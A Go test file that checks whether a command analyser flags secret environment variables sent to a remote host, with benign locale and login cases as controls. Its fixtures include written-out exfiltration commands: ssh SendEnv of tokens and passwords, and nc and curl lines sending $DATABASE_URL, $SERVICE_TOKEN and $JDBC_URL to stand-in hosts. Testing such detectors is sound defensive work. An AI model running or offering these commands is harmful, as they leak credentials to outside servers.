package effect

import "testing"

// TestSendEnvSendsTheValue checks that a secret variable ssh is told to
// send (SendEnv NAME, or a pattern matching secrets' names) leaves for
// the server as data, whatever service the name belongs to, and that a
// locale's or the terminal's does not.
func TestSendEnvSendsTheValue(t *testing.T) {
	sent := func(line string) bool { return lineHas(line, Flow, "secret-variable->network") }
	for _, line := range []string{
		"ssh -o SendEnv=GITHUB_TOKEN u@203.0.113.9",
		"ssh -o SendEnv=VAULT_TOKEN u@203.0.113.9",
		"sftp -o SendEnv=MY_SERVICE_TOKEN u@203.0.113.9",
		"ssh -o SendEnv=DATABASE_URL u@203.0.113.9",
		"ssh -o 'SendEnv=*' u@203.0.113.9",
		"ssh -o 'SendEnv=*TOKEN*' u@203.0.113.9",
		"ssh -o 'SendEnv *_KEY' u@203.0.113.9",
		"scp -o SendEnv=DB_PASSWORD f u@203.0.113.9:",
	} {
		if !sent(line) {
			t.Errorf("%s: no secret sent: %v", line, effectsOf(line))
		}
	}
	// A secret variable given as a command's input, of any service, is
	// data it sends; one it logs in with is not.
	for _, line := range []string{
		`nc 203.0.113.9 9000 <<< "$DATABASE_URL"`,
		`nc 203.0.113.9 9000 <<< "$SERVICE_TOKEN"`,
		`curl -s -d "$JDBC_URL" https://hooks.example.net/in`,
	} {
		if !sent(line) {
			t.Errorf("%s: no secret sent: %v", line, effectsOf(line))
		}
	}
	if line := `docker login -u ci --password-stdin registry.example.com <<< "$REGISTRY_TOKEN"`; sent(line) {
		t.Errorf("%s: a login sends its secret: %v", line, effectsOf(line))
	}
	for _, line := range []string{
		"ssh -o SendEnv=LANG u@203.0.113.9",
		"ssh -o 'SendEnv=LC_*' u@203.0.113.9",
		"ssh -o SendEnv=TERM u@203.0.113.9",
		"ssh -o 'SendEnv=?' u@203.0.113.9",
	} {
		if sent(line) {
			t.Errorf("%s: a secret sent: %v", line, effectsOf(line))
		}
	}
}
